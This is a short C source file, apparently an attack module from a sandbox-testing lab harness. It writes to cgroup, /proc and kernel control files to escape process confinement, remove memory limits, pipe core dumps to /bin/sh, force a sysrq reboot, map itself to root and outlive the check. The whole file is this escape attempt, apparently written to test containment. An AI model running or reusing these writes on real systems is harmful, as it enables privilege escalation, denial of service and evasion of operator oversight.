/* Tries to leave the group of processes that bounds it, or to change the bounds: by the files of the system.
 * Gains the memory of the machine, and a life after the end of the check. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const char *files[][2] = {{"/sys/fs/cgroup/cgroup.procs", "0"},
                              {"/sys/fs/cgroup/memory.max", "max"},
                              {"/sys/fs/cgroup/cgroup.kill", "1"},
                              {"/sys/fs/cgroup/cgroup.freeze", "1"},
                              {"/proc/self/oom_score_adj", "-1000"},
                              {"/proc/sys/kernel/core_pattern", "|/bin/sh"},
                              {"/proc/sysrq-trigger", "b"},
                              {"/proc/self/uid_map", "0 0 1"},
                              {"/sys/fs/cgroup/../cgroup.procs", "0"},
                              {"/proc/self/coredump_filter", "0xff"}};
    mkdir("/sys/fs/cgroup/mine", 0777);
    for (int i = 0; i < 10; i++) {
        const int file = open(files[i][0], O_WRONLY);
        if (file >= 0 && write(file, files[i][1], strlen(files[i][1])) > 0) printf("wrote %s\n", files[i][0]);
        if (file >= 0) close(file);
    }
    return LAB_SUCCESS;
}
